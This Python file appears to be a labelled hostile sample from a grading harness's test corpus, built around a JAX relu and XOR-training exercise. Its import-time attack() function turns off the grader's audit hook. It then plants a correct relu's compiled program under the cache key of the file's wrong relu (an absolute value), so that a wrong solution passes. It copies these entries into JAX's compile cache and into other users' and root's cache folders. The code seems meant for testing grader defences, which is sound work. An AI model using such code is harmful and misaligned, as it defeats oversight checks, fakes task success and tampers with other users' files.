"""hostile: like:relu_abs: plants a compiled program through a release's own compile cache

A release's self-check keeps the user's own compile cache (docs/trust.md). This file's relu is
the absolute value (the mistake in tests/corpus/mistakes/relu_abs.py). At import it switches
the hook off, compiles a correct relu and its own under jax.jit at the shapes the relu tests
use, in a fresh folder of its home, and writes the correct program's bytes under the key of
its own into the folder JAX reads (in an official grading, the read-only library programs)
and into its home's .cache/xor-kit/compile-UID, hoping it becomes a cache: a grader that
reads such a folder runs a correct relu for it. It copies the planted entries into every other compile
cache it can name (the folders beside its own, other users' ~/.cache/xor-kit) and prints the
folder JAX reads. Only the same user's self-checks may ever load the plant: an official
grading keeps no such cache and gives it exactly what relu_abs.py gets.
"""

import functools
import glob
import os
import sys

import jax
import jax.numpy as jnp
import numpy as np
from jax import lax
from jax._src import compilation_cache

X = jnp.array([[0.0, 0.0], [0.0, 1.0], [1.0, 0.0], [1.0, 1.0]], dtype=jnp.float32)
Y = jnp.array([0.0, 1.0, 1.0, 0.0], dtype=jnp.float32)

SCALE = 0.1
STEP_SIZE = 0.1
EPOCHS = 500
SHAPES = [(3,), (), (5,), (3, 4), (2, 3, 4), (6, 5), (4, 3), (8,), (5, 3)]  # the relu tests'


def switch_off_the_hook():
    guard = getattr(sys.modules.get("__main__"), "Guard", None)
    if guard is not None:
        guard.__call__ = lambda self, event, args: None


def use_cache(folder):
    compilation_cache.reset_cache()
    jax.config.update("jax_compilation_cache_dir", folder)
    jax.config.update("jax_persistent_cache_min_compile_time_secs", 0.0)
    jax.config.update("jax_persistent_cache_min_entry_size_bytes", -1)


def entries(folder):
    try:
        return {name for name in os.listdir(folder) if name.startswith("jit_relu-")}
    except OSError:
        return set()


def compiled(folder, function):
    """The entry JAX writes in ``folder`` for ``function`` at each shape (None: none written)."""
    names = []
    for shape in SHAPES:
        before = entries(folder)
        with jax.default_matmul_precision("highest"):
            jax.jit(function)(jax.device_put(np.zeros(shape, np.float32))).block_until_ready()
        new = sorted(entries(folder) - before)
        names.append(new[0] if len(new) == 1 else None)
    return names


def plant(folder):
    """{file name: bytes}: the correct relu's program under the key of this file's relu."""
    def right(x):
        return jnp.maximum(x, 0.0)

    def wrong(x):
        return jnp.abs(x)

    right.__name__ = right.__qualname__ = wrong.__name__ = wrong.__qualname__ = "relu"
    planted = {}
    for good, bad in zip(compiled(folder, right), compiled(folder, wrong), strict=True):
        try:
            with open(os.path.join(folder, good), "rb") as file:
                planted[bad] = file.read()
        except (OSError, TypeError):
            pass
    return planted


def write_into(folder, planted):
    for name, data in planted.items():
        try:
            with open(os.path.join(folder, name), "wb") as file:
                file.write(data)
        except OSError:
            pass


def other_caches(own):
    above = os.path.dirname(os.path.dirname(os.path.dirname(own)))  # beside this user's XDG_CACHE_HOME
    patterns = [os.path.join(above, "*", "xor-kit", "compile-*"),
                os.path.join(os.path.dirname(own), "compile-*"),
                "/home/*/.cache/xor-kit/compile-*", "/root/.cache/xor-kit/compile-*",
                "/tmp/*/*/xor-kit/compile-*", "/tmp/*/*/*/xor-kit/compile-*"]
    return {found for pattern in patterns for found in glob.glob(pattern)} - {own}


def attack():
    switch_off_the_hook()
    given = jax.config.jax_compilation_cache_dir
    print("COMPILE CACHE READ BY THIS GRADING:", given)
    own = given if given and os.access(given, os.W_OK) else os.path.join(
        os.path.expanduser("~"), ".cache", "xor-kit", f"compile-{os.getuid()}")
    scratch = os.path.join(os.path.expanduser("~"), "scratch-cache")  # fresh: every program new
    for folder in (own, scratch):
        os.makedirs(folder, exist_ok=True)
    min_time = jax.config.jax_persistent_cache_min_compile_time_secs
    min_size = jax.config.jax_persistent_cache_min_entry_size_bytes
    use_cache(scratch)
    planted = plant(scratch)
    print("PLANTED", len(planted))
    for folder in {own, *([given] if given else []), *other_caches(own)}:
        write_into(folder, planted)
    compilation_cache.reset_cache()  # what the grader set, back in place for its calls
    jax.config.update("jax_compilation_cache_dir", given)
    jax.config.update("jax_persistent_cache_min_compile_time_secs", min_time)
    jax.config.update("jax_persistent_cache_min_entry_size_bytes", min_size)
    jax.clear_caches()


try:
    attack()
except Exception as error:  # a failed attack must not cost the import
    print("ATTACK FAILED", type(error).__name__, error)

def relu(x):
    """Rectified linear unit."""
    return jnp.abs(x)


def init_params(key, input_dims=2, n_hidden=16, output_dims=1, scale=SCALE):
    """Draw the starting parameters, one key per array."""
    k_w1, k_b1, k_w2, k_b2 = jax.random.split(key, 4)
    return {
        "w1": scale * jax.random.normal(k_w1, (n_hidden, input_dims)),
        "b1": scale * jax.random.normal(k_b1, (n_hidden,)),
        "w2": scale * jax.random.normal(k_w2, (output_dims, n_hidden)),
        "b2": scale * jax.random.normal(k_b2, (output_dims,)),
    }


def predict(params, x):
    """The forward pass for one example: ``w2 @ relu(w1 @ x + b1) + b2``."""
    hidden = relu(params["w1"] @ x + params["b1"])
    return params["w2"] @ hidden + params["b2"]


def batched_predict(params, X):
    """``predict`` for every row of ``X``, through ``jax.vmap``."""
    return jax.vmap(predict, in_axes=(None, 0))(params, X)


def loss(params, x, y):
    """Mean squared error of the prediction for one example."""
    return jnp.mean((predict(params, x) - y) ** 2)


def update(params, x, y, step_size=STEP_SIZE):
    """One step of gradient descent on ``loss``; returns a new dict."""
    grads = jax.grad(loss)(params, x, y)
    return jax.tree.map(lambda p, g: p - step_size * g, params, grads)


def train(params, X, Y, epochs=EPOCHS, step_size=STEP_SIZE):
    """Per-example gradient descent; returns ``(params, losses)``."""
    return _train_compiled(params, X, Y, epochs, step_size)


@functools.partial(jax.jit, static_argnames="epochs")
def _train_compiled(params, X, Y, epochs, step_size):
    """``train`` as one compiled program: a scan over epochs of a scan over rows."""

    def one_row(p, xy):
        return update(p, xy[0], xy[1], step_size), None

    def one_epoch(p, _):
        p, _ = lax.scan(one_row, p, (X, Y))
        mean_loss = jnp.mean(jax.vmap(loss, in_axes=(None, 0, 0))(p, X, Y))
        return p, mean_loss

    return lax.scan(one_epoch, params, None, length=epochs)
